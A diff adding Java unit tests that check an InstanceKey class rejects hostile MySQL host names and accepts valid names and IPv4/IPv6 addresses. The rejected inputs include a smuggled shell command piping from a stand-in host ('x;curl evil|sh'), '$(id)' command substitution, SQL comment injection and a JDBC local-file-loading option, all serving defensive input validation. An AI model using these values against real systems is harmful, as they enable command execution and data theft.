@@ -23,6 +23,30 @@ class InstanceKeyTest {
     }
 
     @Test
+    void refusesHostsThatCarryOptionsSqlOrShellWords() {
+        for (String hostile : new String[] { "evil:3306?allowLoadLocalInfile=true&x=", "x;curl evil|sh", "a b",
+                "db1/mysql", "user@db1", "db1'--", "db1\nx", "-db1", "db1-", "db..1", "$(id)", "`id`",
+                "a".repeat(64) + ".example", "x".repeat(254) }) {
+            IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
+                    () -> new InstanceKey(hostile, 3306), hostile);
+            assertTrue(e.getMessage().contains("host name"), e.getMessage());
+        }
+        assertThrows(IllegalArgumentException.class, () -> InstanceKey.parse("evil:3306?allowLoadLocalInfile=true"));
+        assertThrows(IllegalArgumentException.class, () -> InstanceKey.parse("db1:3306 "  + "x"));
+        assertThrows(IllegalArgumentException.class, () -> InstanceKey.parse("db1:+3306"));
+        assertThrows(IllegalArgumentException.class, () -> InstanceKey.parse("db1:99999999999"));
+    }
+
+    @Test
+    void acceptsNamesAddressesAndIpv6() {
+        assertEquals("db-1.dc_2.example.com", new InstanceKey("DB-1.dc_2.example.com.", 3306).hostname());
+        assertEquals("127.0.0.1", InstanceKey.parse("127.0.0.1:23306").hostname());
+        assertEquals(new InstanceKey("::1", 3307), InstanceKey.parse("[::1]:3307"));
+        assertEquals(new InstanceKey("fe80::1", 3306), InstanceKey.parse("fe80::1"));
+        assertEquals(new InstanceKey("x".repeat(63), 1), new InstanceKey("x".repeat(63), 1));
+    }
+
+    @Test
     void binlogCoordinatesOrderByFileNumberThenPosition() {
         var a = new BinlogCoordinates("mysql-bin.000009", 500);
         var b = new BinlogCoordinates("mysql-bin.000010", 4);
